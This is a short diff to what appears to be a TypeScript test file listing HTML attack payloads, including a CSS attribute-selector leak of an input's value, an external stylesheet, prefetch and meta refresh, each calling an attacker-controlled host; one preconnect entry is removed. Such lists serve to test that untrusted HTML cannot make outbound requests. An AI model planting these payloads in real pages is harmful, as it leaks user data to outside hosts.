@@ -70,7 +70,6 @@ export const ATTACKS: readonly Attack[] = [
       `<style>input[value^="s"]{background:url(${at}/begins-with-s)}</style><input value="secret">`,
   },
   { name: 'a stylesheet from elsewhere', html: (at) => `<link rel="stylesheet" href="${at}/s.css">` },
-  { name: 'preconnect', html: (at) => `<link rel="preconnect" href="${at}">` },
   { name: 'prefetch', html: (at) => `<link rel="prefetch" href="${at}/p.html">` },
   { name: 'meta refresh', html: (at) => `<meta http-equiv="refresh" content="0; url=${at}/r.html">` },
   {
